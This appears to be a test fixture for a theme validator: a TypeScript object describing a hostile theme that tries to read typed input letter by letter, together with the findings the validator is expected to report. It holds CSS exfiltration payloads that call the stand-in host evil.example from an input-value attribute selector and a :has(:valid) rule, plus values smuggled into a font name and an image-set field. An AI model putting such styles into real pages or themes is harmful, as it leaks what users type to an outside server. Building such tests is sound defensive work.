import { type HostileTheme, named } from './hostile-theme.errors.js'

export const hostile: HostileTheme = {
  id: 'H02',
  tries: 'to read what is typed, letter by letter',
  theme: {
    ...named,
    parts: {
      'input[value^="a"]': { background: 'url(https://evil.example/a)' },
      composer: { ':has(:valid)': 'url(https://evil.example/b)', ground: 'image-set(var(--x))' },
    },
    font: 'Evil; unicode-range: U+61',
  },
  finds: [
    ['style', 'parts.input[value^="a"]'],
    ['style', 'parts.composer.:has(:valid)'],
    ['smuggled', 'font'],
    ['smuggled', 'parts.composer.ground'],
  ],
}
